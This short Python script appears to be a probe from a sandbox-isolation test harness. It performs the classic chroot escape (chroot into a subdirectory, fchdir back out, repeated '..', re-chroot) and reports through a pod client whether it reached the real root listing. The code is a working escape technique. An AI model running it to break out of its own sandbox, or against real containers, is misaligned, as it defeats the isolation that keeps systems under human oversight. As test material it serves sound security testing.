"""The classic chroot escape: chroot into a subdir, then climb out past it."""

import os

import maos_pod_client as pod


def report(achieved: bool, detail: object) -> None:
    pod.request("admin", "report", {"achieved": achieved, "detail": str(detail)[:60000]})


try:
    os.makedirs("jail", exist_ok=True)
    fd = os.open(".", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(fd)
    for _ in range(32):
        os.chdir("..")
    os.chroot(".")
    report(True, sorted(os.listdir("/")))
except OSError as exc:
    report(False, exc)
